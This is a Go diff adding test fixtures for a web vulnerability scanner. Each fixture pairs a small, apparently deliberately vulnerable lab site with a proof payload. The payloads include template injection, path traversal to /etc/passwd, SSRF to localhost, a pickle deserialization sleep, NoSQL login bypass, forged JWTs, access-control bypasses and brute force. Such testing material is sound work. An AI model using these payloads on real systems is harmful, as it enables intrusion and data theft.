@@ -1,5 +1,7 @@
 package web
 
+import "strings"
+
 // third are a third set of small sites, in lab/web/third, with functions and looks that neither the challenges nor the
 // second set have. They, too, were written, and their labels proved, before their author saw the tester.
 var third = []flow{
@@ -56,12 +58,58 @@ var third = []flow{
 		{"/**", "upload", "weak", "r.silva FILE /candidatura cv q7.html application/pdf <script>alert(7)</script> ; - GET /cv/q7.html => ^200 text/html(?s).*<script>alert"}}},
 	{"gazette", "node", pairs, "", "-", "", []step{
 		{"/leave", "redirect", "weak", "- GET /leave?for=https://gazette.example.q7.example/ => Location: https://gazette.example.q7"}}},
+	{"diploma", "python", pairs, "", "-", "", []step{
+		{"/print", "template", "weak", "- POST /print holder=q7&skill={%25print(7*191)%25} => mastered 1337"}}},
+	{"familytree", "python", pairs, "", "-", "", []step{
+		{"/person/*", "template", "weak", "- POST /person/2 known={{7*191}} ; - GET /person/2 => <p>1337</p>"}}},
+	{"newsroom", "python", pairs, "", "-", "", []step{
+		{"/onizleme", "template", "weak", "- GET /onizleme?baslik={{7|add:1330}}&yazar=q7 => <h2>1337</h2>"}}},
+	{"nautical", "python", pairs, "", "-", "", []step{
+		{"/charts/sheet", "path", "weak", `- POST /charts/sheet {"sheet":"....//....//....//....//....//....//....//....//....//....//....//....//etc/passwd"} => root:x:0:0`}}},
+	{"feedreader", "python", pairs, "", "-", "", []step{
+		{"/lesen", "ssrf", "weak", "- POST /lesen adresse=http://127.0.0.1:{port}/betrieb/status => Siegellack"}}},
+	{"chess", "python", pairs, "", "-", "", []step{
+		{"/resume", "deserialization", "weak", "- FILE /resume game q7.sav application/octet-stream ctime\nsleep\n(I2\ntR. => slow"}}},
 
 	// Of others, and of those with more rights.
 	{"courier", "php", pairs, "form /?do=signon konto haslo", "firma-kolibri:Paczka!2024 atelier-ewa:Szpulka-61", "", []step{
 		{"/", "bola", "weak", "firma-kolibri GET /?do=label&ref=34303732 => Lipowa 9"}}},
+	{"insurer", "node", pairs, "form /anmelden kennung passwort", "k.brandt:Haftpflicht/9 j.vogt:Teilkasko/5", "", []step{
+		{"/schreiben/*/druck", "bola", "weak", "k.brandt GET /schreiben/20320/druck => Berufsunf"}}},
+	{"landlord", "node", pairs, "cookie-json /open tenant pass", "tenant.ito:Genkan-303 tenant.ruiz:Balcon-404", "", []step{
+		{"/gql", "bola", "weak", `tenant.ito POST /gql {"query":"{lease(id:\"TGVhc2U6NQ==\"){deposit}}"} => LU77`}}},
+	{"counsel", "node", pairs, "json /api/start nick phrase", "ada.q:Quiet-Room-1 ben.z:Quiet-Room-2", "", []step{
+		{"/api/conversations/open", "bola", "weak", `ada.q POST /api/conversations/open {"conversation":612} => drinks`}}},
+	{"council", "python", pairs, "form /signin resident passkey", "resident.wu:Bin-day-1 resident.ek:Bin-day-2", "", []step{
+		{"/svc/officers/electors", "bfla", "weak", "resident.wu GET /svc/officers/electors => 1980-02-11"}}},
+	{"cinema", "python", pairs, "form /foyer guest pass", "ticket.joy:Matinee-11 ticket.sol:Matinee-22", "", []step{
+		{"/projection", "bfla", "weak", "ticket.joy [Cookie: role=admin] GET /projection => Key of the vault"}}},
+	{"census", "python", pairs, "form /on clerk word", "clerk.a:Ledger/One clerk.b:Ledger/Two", "", []step{
+		{"/supervisor/rolls", "bfla", "weak", "clerk.a PUT /supervisor/rolls => on parole"}}},
+	{"rota", "node", pairs, "", "-", "", []step{
+		{"/api/volunteers", "mass", "weak", `-a POST /api/volunteers {"email":"q7@q.example","secret":"q7x","name":"q","organiser":true} ; -a POST /api/session {"email":"q7@q.example","secret":"q7x"} ; -a GET /api/contacts => 555-0173`}}},
+	{"skipass", "node", pairs, "cookie-json /session client mdp", "lou.m:Powder.day1 vic.t:Chair.lift2", "", []step{
+		{"/panier/lignes", "logic", "weak", `lou.m POST /panier/lignes {"article":"week","pieces":-1} ; lou.m GET /panier => "total":-340`}}},
+	{"ferry", "node", pairs, "", "-", "", []step{
+		{"/rezervacija", "logic", "weak", "- POST /rezervacija linija=2&cijena=1&ime=q7 => platiti: 1 EUR"}}},
 
 	// Passwords, tokens, and what was left behind.
+	{"broker", "python", pairs, "", "-", "", []step{
+		{"/**", "default", "weak", `-a POST /api/session {"username":"guest","password":"guest"} ; -a GET / => invoices.out`}}},
+	{"alumni", "python", pairs, "form /kirjaudu tunnus salasana", "aino.laine:Tuomi-1998 eero.koski:Pihlaja-2001", "", []step{
+		{"/kirjaudu", "enumeration", "weak", "- POST /kirjaudu tunnus=q7&salasana=q7 => ei ole olemassa"}}},
+	{"crew", "python", pairs, "form /aboard handle knot", "tess:Halyard-10 jon:Bowline-20", "", []step{
+		{"/api/recover", "host", "weak", `- [Host: q7.example] POST /api/recover {"handle":"tess"} ; tess GET /letters => http://q7\.example`}}},
+	{"handball", "python", pairs, "form /omklaedning spiller kode", "wing7:Left-hand-7 pivot4:Six-metres-4", "", []step{
+		{"/**", "predictable", "weak", "- [Cookie: team=f931b13aead002d7fcdb02f84e0f794f] GET /taktik => Opstilling"}}},
+	{"drone", "python", pairs, "json /v1/token callsign secret", "pilot.ana:Rotor-speed-1 pilot.leo:Rotor-speed-2", "", []step{
+		{"/**", "jwt", "weak", "- [Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJxNyIsInJvbGUiOiJjb250cm9sbGVyIiwiZXhwIjo0MTAyNDQ0ODAwfQ.d2hhdGV2ZXI] GET /v1/control/airspace => sector 9"}}},
+	{"locker", "python", pairs, "", "-", "", []step{
+		{"/oeffnen", "limit", "weak", strings.Repeat("- POST /oeffnen pin=0000 ; ", 12) + "- POST /oeffnen pin=4821 => ist offen"}}},
+	{"apiary", "node", pairs, "form /kupa/in mail word", "ina@hive.example:Linden-Honey-3 sten@hive.example:Heather-Honey-4", "", []step{
+		{"/kupa/in", "nosql", "weak", "- POST /kupa/in mail[$ne]=q7&word[$ne]=q7 => ^302"}}},
+	{"dome", "node", pairs, "form /inn navn kode", "guest.kari:Polaris+1 guest.olav:Capella+2", "", []step{
+		{"/**", "jwt", "weak", "- [Cookie: dome=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoicTciLCJyYW5rIjoiZGlyZWN0b3IifQ.bR-a-P9fkmnSUtXfbtu1uesyDXgMR51GazRrezzEB4Q] GET /styring => 88-14"}}},
 	{"cabinet", "php", pairs, "", "-", "", []step{
 		{"/**", "default", "weak", "- POST /index.php operator=admin&passcode=password => BOILER 71"}}},
 	{"florist", "php", pairs, "", "-", "", []step{
